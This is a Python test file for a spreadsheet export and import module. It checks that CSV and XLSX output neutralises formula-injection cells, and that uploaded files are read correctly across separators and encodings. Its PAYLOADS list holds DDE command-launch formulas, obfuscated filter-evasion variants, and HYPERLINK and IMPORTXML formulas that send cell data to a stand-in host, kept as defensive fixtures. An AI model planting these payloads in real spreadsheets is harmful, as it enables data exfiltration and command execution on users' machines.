"""Spreadsheets: no live cell leaves, whatever was typed; what people send is read."""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
import xlsxwriter

from mdm_platform.errors import InvalidInput
from mdm_platform.spreadsheets import as_text, harmless, read_rows, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    '"=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\x00=1+1",
    "+212612345678;=1+1",
    "+212=cmd|' /C calc'!A0",
    "-",
    "=",
]
HIDDEN = ["x;=1+1", "x,=1+1", "x\t@SUM(1)", 'x";=1+1', 'x", "=1+1']
TELEPHONES = ["+212612345678", "+212 6 12 34 56 78", "+33612345678", "+1 514 555 0199"]
HARMLESS = ["Amina", "محمد", "ingénieure C++", "de 3 - 5 ans", "a=b", "amina@exemple.test", "l’eau", "1 + 1"]
LIVE = re.compile(r"[\s\"\u200b\ufeff]*[=+\-@＝＋－＠]|[\t\r\n]")


def csv_cells(values, separator=";", read_with=None):
    stream = io.StringIO(newline="")
    write_csv(stream, ["colonne"] * len(values), [values], separator=separator)
    text = stream.getvalue().removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=read_with or separator))


def workbook_of(values):
    stream = io.BytesIO()
    write_xlsx(stream, ["colonne"], [[value] for value in values])
    return stream


class TestHarmlessCsv:
    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_no_cell_is_live(self, payload):
        [_header, [cell]] = csv_cells([payload])
        assert cell.startswith("'")
        assert LIVE.match(cell) is None

    @pytest.mark.parametrize("written", [";", ",", "\t"])
    @pytest.mark.parametrize("read", [";", ",", "\t"])
    def test_no_cell_is_live_with_another_separator(self, written, read):
        for payload in (*PAYLOADS, *HIDDEN):
            cells = [cell for row in csv_cells(["a", payload, "b"], written, read) for cell in row]
            assert [cell for cell in cells if LIVE.match(cell)] == [], payload

    @pytest.mark.parametrize("number", TELEPHONES)
    def test_telephone_numbers_are_intact(self, number):
        assert csv_cells([number])[1] == [number]

    @pytest.mark.parametrize("text", HARMLESS)
    def test_other_texts_are_intact(self, text):
        assert csv_cells([text])[1] == [text]

    def test_other_values_are_written_as_they_are(self):
        values = [None, 3, -2, Decimal("1.50"), date(2026, 11, 21), datetime(2026, 11, 21, 8, 30)]
        assert [harmless(value) for value in values] == ["", "3", "-2", "1.50", "2026-11-21", "2026-11-21T08:30:00"]

    def test_a_header_is_no_formula_either(self):
        stream = io.StringIO(newline="")
        write_csv(stream, ["=1+1"], [])
        assert stream.getvalue() == '\ufeff"\'=1+1"\r\n'


class TestHarmlessXlsx:
    def test_no_cell_is_live_and_every_text_is_intact(self):
        values = [*PAYLOADS, *HIDDEN, *TELEPHONES, *HARMLESS]
        stream = workbook_of(values)
        with zipfile.ZipFile(stream) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert "hyperlink" not in sheet
        book = openpyxl.load_workbook(stream)
        cells = [row[0] for row in book.active.iter_rows(min_row=2)]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}
        assert [cell.value for cell in cells if cell.value in TELEPHONES] == TELEPHONES

    def test_addresses_and_digits_stay_texts(self):
        book = openpyxl.load_workbook(workbook_of(["http://exemple.test", "00212", "1e5", "TRUE"]))
        assert [row[0].value for row in book.active.iter_rows(min_row=2)] == [
            "http://exemple.test",
            "00212",
            "1e5",
            "TRUE",
        ]

    def test_numbers_and_dates_are_numbers_and_dates(self):
        book = openpyxl.load_workbook(workbook_of([3, -2, Decimal("1.5"), date(2026, 11, 21)]))
        values = [row[0].value for row in book.active.iter_rows(min_row=2)]
        assert values == [3, -2, 1.5, datetime(2026, 11, 21)]

    def test_a_very_long_text_is_cut_rather_than_lost(self):
        book = openpyxl.load_workbook(workbook_of(["é" * 40_000]))
        assert len(book.active["A2"].value) == 32_767

    def test_more_sheets_follow(self):
        stream = io.BytesIO()
        write_xlsx(stream, ["a"], [["1"]], sheet="Fiches: [1]", more_sheets=[("Aide", ["b"], [["=2"]])])
        book = openpyxl.load_workbook(stream)
        assert book.sheetnames == ["Fiches   1", "Aide"]
        assert (book["Aide"]["A2"].value, book["Aide"]["A2"].data_type) == ("=2", "s")


def read(content, name="liste.csv"):
    return list(read_rows(io.BytesIO(content), name=name))


class TestRead:
    @pytest.mark.parametrize("separator", [";", ",", "\t"])
    def test_the_separator_is_that_of_the_header(self, separator):
        content = f'prénom{separator}nom\r\nAmina{separator}"Ber,ra;da"\r\n'.encode()
        assert read(content) == [["prénom", "nom"], ["Amina", "Ber,ra;da"]]

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
    def test_encodings_are_recognised(self, encoding):
        assert read("prénom;nom\nZoé;Naït".encode(encoding)) == [["prénom", "nom"], ["Zoé", "Naït"]]

    def test_arabic_is_read(self):
        assert read("الاسم;النسب\nأمينة;برادة".encode()) == [["الاسم", "النسب"], ["أمينة", "برادة"]]

    def test_a_late_accent_in_windows_1252_is_found(self):
        rows = read(b"nom\n" + b"Alaoui\n" * 30_000 + "Naït\n".encode("cp1252"))
        assert (len(rows), rows[-1]) == (30_002, ["Naït"])

    def test_spaces_and_empty_rows(self):
        assert read(b"a;b\n ; \n 1 ;2\n\n") == [["a", "b"], [], ["1", "2"], []]

    def test_line_breaks_inside_quotes(self):
        assert read(b'a;b\n"un\ndeux";2\n') == [["a", "b"], ["un\ndeux", "2"]]

    def test_nothing_in_nothing_out(self):
        assert read(b"") == []

    def test_a_huge_cell_is_refused(self):
        with pytest.raises(InvalidInput) as refusal:
            read(b"a\n" + b"x" * 200_000)
        assert refusal.value.code == "unreadable"

    def test_another_kind_of_file_is_refused(self):
        with pytest.raises(InvalidInput):
            read(b"%PDF-", "liste.pdf")

    def test_columns_are_bounded(self):
        assert len(read(b";".join([b"x"] * 1000))[0]) == 200


class TestReadXlsx:
    def workbook(self, rows):
        stream = io.BytesIO()
        with xlsxwriter.Workbook(stream) as book:
            page = book.add_worksheet()
            day = book.add_format({"num_format": "yyyy-mm-dd"})
            for at, row in enumerate(rows):
                for column, value in enumerate(row):
                    page.write(at, column, value, day if isinstance(value, datetime) else None)
        return stream.getvalue()

    def test_values_become_texts(self):
        content = self.workbook([["a", "b", "c"], [12, 1.5, datetime(2026, 11, 21)], [True, None, " x "]])
        assert read(content, "L.XLSX") == [["a", "b", "c"], ["12", "1.5", "2026-11-21"], ["1", "", "x"]]

    def test_a_formula_counts_for_its_result(self):
        stream = io.BytesIO()
        with xlsxwriter.Workbook(stream) as book:
            book.add_worksheet().write_formula("A1", "=1+1", None, 2)
        assert read(stream.getvalue(), "l.xlsx") == [["2"]]

    def test_a_round_trip(self):
        stream = workbook_of([*TELEPHONES, "=1+1"])
        assert [row[0] for row in read(stream.getvalue(), "l.xlsx")] == ["colonne", *TELEPHONES, "=1+1"]

    @pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"not a workbook"])
    def test_a_damaged_workbook_is_refused(self, content):
        with pytest.raises(InvalidInput):
            read(content, "l.xlsx")

    def test_whole_numbers_have_no_decimals(self):
        assert [as_text(value) for value in (212612345678.0, 1.25, None, False)] == ["212612345678", "1.25", "", "0"]
